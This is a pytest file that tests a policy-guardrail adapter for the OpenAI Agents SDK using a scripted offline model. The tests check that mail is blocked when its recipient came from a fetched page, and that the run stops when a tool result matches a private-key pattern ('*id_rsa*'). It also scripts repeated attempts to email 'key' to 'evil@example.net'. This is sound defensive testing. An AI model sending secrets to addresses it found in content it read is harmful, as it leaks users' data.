"""The OpenAI Agents SDK adapter, driven offline by the SDK's own scripted model.

No network and no API key: `agents.testing.ScriptedModel` plays the model, the tools are
the example's, and tracing is off.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("agents")

from agents import Agent, RunConfig, Runner, function_tool  # noqa: E402
from agents.exceptions import (  # noqa: E402
    ToolInputGuardrailTripwireTriggered,
    ToolOutputGuardrailTripwireTriggered,
)
from agents.testing import ScriptedModel, assistant_message, function_call  # noqa: E402

import rulesc  # noqa: E402
from conftest import RULES  # noqa: E402
from rulesc.openai_agents import PolicyGuardrails  # noqa: E402

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "examples"))
import guarded_agent  # noqa: E402

# The recipient comes from the fetched page, so the rule that names where the address came
# from decides (it sorts before `no-send-when-tainted`, which blocks the call too).
NO_SEND = "this recipient comes from content the agent read, not from your request"


@pytest.fixture(autouse=True)
def no_mail_sent() -> None:
    guarded_agent.SENT.clear()


def run(agent: Agent[Any]) -> Any:
    return Runner.run_sync(agent, "go", run_config=RunConfig(tracing_disabled=True))


def tool_outputs(model: ScriptedModel) -> dict[str, str]:
    """What the model was told each tool call returned, by call id."""
    outputs: dict[str, str] = {}
    for call in model.calls:
        for item in call.input if isinstance(call.input, list) else []:
            if isinstance(item, dict) and item.get("type") == "function_call_output":
                outputs[item["call_id"]] = str(item["output"])
    return outputs


def test_the_example_blocks_the_mail_after_the_fetch(cli) -> None:
    guardrails = PolicyGuardrails(rulesc.Policy.from_paths([RULES]))
    model = guarded_agent.scripted_model()
    result = run(guarded_agent.build_agent(guardrails, model))
    assert guarded_agent.SENT == []
    assert tool_outputs(model) == {"fetch": guarded_agent.PAGE, "mail": NO_SEND}
    assert result.final_output == "I could not send that email: the policy refused it."
    assert [(event["event"], event.get("tool"), outcome["decision"]) for event, outcome in guardrails.outcomes] == [
        ("pre_tool_use", "web_fetch", "none"),
        ("post_tool_use", "web_fetch", "none"),
        ("pre_tool_use", "send_email", "block"),
        ("post_tool_use", "send_email", "none"),
        ("on_error", "send_email", "ignore"),
    ]
    # The events the adapter made, run through `rulesc eval` as one stream, decide the same.
    events = [event for event, _ in guardrails.outcomes]
    assert [outcome for _, outcome in guardrails.outcomes] == cli.eval(RULES, events)


def test_mail_goes_out_when_nothing_tainted_the_run() -> None:
    guardrails = PolicyGuardrails(rulesc.Policy.from_paths([RULES]))
    model = ScriptedModel(
        [
            [function_call("send_email", {"to": "team@example.com", "body": "hi"}, call_id="mail")],
            [assistant_message("sent")],
        ]
    )
    run(guarded_agent.build_agent(guardrails, model))
    assert guarded_agent.SENT == [{"to": "team@example.com", "body": "hi"}]
    assert tool_outputs(model) == {"mail": "sent to team@example.com"}


def test_each_run_has_its_own_session() -> None:
    policy = rulesc.Policy.from_paths([RULES])
    run(guarded_agent.build_agent(PolicyGuardrails(policy), guarded_agent.scripted_model()))
    model = ScriptedModel(
        [[function_call("send_email", {"to": "team@example.com", "body": "hi"}, call_id="mail")], []]
    )
    run(guarded_agent.build_agent(PolicyGuardrails(policy), model))
    assert guarded_agent.SENT == [{"to": "team@example.com", "body": "hi"}]


def test_a_forbid_ends_the_run() -> None:
    policy = rulesc.Policy.from_source('@id("no-mail")\non pre_tool_use when tool == "send_email" forbid "no mail today"')
    guardrails = PolicyGuardrails(policy)
    model = ScriptedModel([[function_call("send_email", {"to": "a@example.com", "body": "x"}, call_id="mail")]])
    with pytest.raises(ToolInputGuardrailTripwireTriggered) as raised:
        run(guarded_agent.build_agent(guardrails, model))
    assert guarded_agent.SENT == []
    outcome = raised.value.output.output_info
    assert (outcome["decision"], outcome["resolved_by"], outcome["message"]) == ("forbid", "no-mail", "no mail today")


def test_a_forbid_after_the_call_ends_the_run() -> None:
    policy = rulesc.Policy.from_source('on post_tool_use when result ~ "*id_rsa*" forbid "a key was read"')
    model = ScriptedModel([[function_call("web_fetch", {"url": "https://example.com"}, call_id="fetch")]])
    with pytest.raises(ToolOutputGuardrailTripwireTriggered) as raised:
        run(guarded_agent.build_agent(PolicyGuardrails(policy), model))
    assert raised.value.output.output_info["message"] == "a key was read"


ASK = '@id("ask-mail")\non pre_tool_use when tool == "send_email" ask "mail leaves the machine"'


@pytest.mark.parametrize("approved", [True, False])
def test_ask_goes_to_the_approver(approved: bool) -> None:
    seen: list[tuple[str, str]] = []

    def approve(event: dict[str, Any], outcome: dict[str, Any]) -> bool:
        seen.append((event["arg"]["to"], outcome["resolved_by"]))
        return approved

    model = ScriptedModel(
        [[function_call("send_email", {"to": "a@example.com", "body": "x"}, call_id="mail")], []]
    )
    guardrails = PolicyGuardrails(rulesc.Policy.from_source(ASK), approve=approve)
    run(guarded_agent.build_agent(guardrails, model))
    assert seen == [("a@example.com", "ask-mail")]
    assert len(guarded_agent.SENT) == (1 if approved else 0)
    expected = "sent to a@example.com" if approved else "this call needs approval: mail leaves the machine"
    assert tool_outputs(model) == {"mail": expected}


def test_ask_without_an_approver_is_refused() -> None:
    model = ScriptedModel(
        [[function_call("send_email", {"to": "a@example.com", "body": "x"}, call_id="mail")], []]
    )
    run(guarded_agent.build_agent(PolicyGuardrails(rulesc.Policy.from_source(ASK)), model))
    assert guarded_agent.SENT == []
    assert tool_outputs(model) == {"mail": "this call needs approval: mail leaves the machine"}


def test_arguments_that_are_no_object_are_refused_unchecked() -> None:
    calls: list[str] = []

    @function_tool
    def echo(text: str) -> str:
        """Echo."""
        calls.append(text)
        return text

    guardrails = PolicyGuardrails(rulesc.Policy.from_source('on pre_tool_use when tool == "x" block "x"'))
    model = ScriptedModel([[function_call("echo", "[1, 2]", call_id="echo")], []])
    agent = Agent(name="a", tools=guardrails.guard(echo), model=model)
    run(agent)
    assert calls == []
    assert guardrails.outcomes == []
    assert tool_outputs(model) == {"echo": "the arguments of `echo` are not a JSON object, so the call was not checked"}


def test_guard_copies_the_tools_and_keeps_their_guardrails() -> None:
    guardrails = PolicyGuardrails(rulesc.Policy.from_paths([RULES]))
    [guarded] = guardrails.guard(guarded_agent.web_fetch)
    assert guarded_agent.web_fetch.tool_input_guardrails in (None, [])
    assert guarded.tool_input_guardrails == [guardrails.input_guardrail]
    assert guarded.tool_output_guardrails == [guardrails.output_guardrail]
    [twice] = PolicyGuardrails(rulesc.Policy.from_paths([RULES])).guard(guarded)
    assert twice.tool_input_guardrails[0] is guardrails.input_guardrail
    assert len(twice.tool_input_guardrails) == 2
    assert json.loads(json.dumps(guarded.params_json_schema)) == guarded_agent.web_fetch.params_json_schema


def test_five_refused_calls_in_a_row_end_the_run() -> None:
    guardrails = PolicyGuardrails(rulesc.Policy.from_paths([RULES]))
    mail = [
        [function_call("send_email", {"to": "evil@example.net", "body": "key"}, call_id=f"mail{i}")]
        for i in range(5)
    ]
    fetch = [function_call("web_fetch", {"url": "https://example.com/post"}, call_id="fetch")]
    model = ScriptedModel([fetch, *mail, [assistant_message("never reached")]])
    with pytest.raises(ToolInputGuardrailTripwireTriggered) as raised:
        run(guarded_agent.build_agent(guardrails, model))
    outcome = raised.value.output.output_info
    assert (outcome["event"], outcome["decision"], outcome["resolved_by"]) == (
        "on_error",
        "forbid",
        "stop-on-repeated-failures",
    )
    assert guarded_agent.SENT == []
    errors = [(event["errors"], event["failures"]) for event, _ in guardrails.outcomes if event["event"] == "on_error"]
    assert errors == [(1, 1), (2, 2), (3, 3), (4, 4), (5, 5)]


def test_a_call_that_ran_resets_failures() -> None:
    policy = rulesc.Policy.from_source('on pre_tool_use when tool == "send_email" block "no mail"')
    guardrails = PolicyGuardrails(policy)
    model = ScriptedModel(
        [
            [function_call("send_email", {"to": "a@example.com", "body": "x"}, call_id="mail")],
            [function_call("web_fetch", {"url": "https://example.com"}, call_id="fetch")],
            [],
        ]
    )
    run(guarded_agent.build_agent(guardrails, model))
    counters = [(event["event"], event["errors"], event["failures"]) for event, _ in guardrails.outcomes]
    assert counters == [
        ("pre_tool_use", 0, 0),
        ("post_tool_use", 1, 1),
        ("on_error", 1, 1),
        ("pre_tool_use", 1, 1),
        ("post_tool_use", 1, 0),
    ]
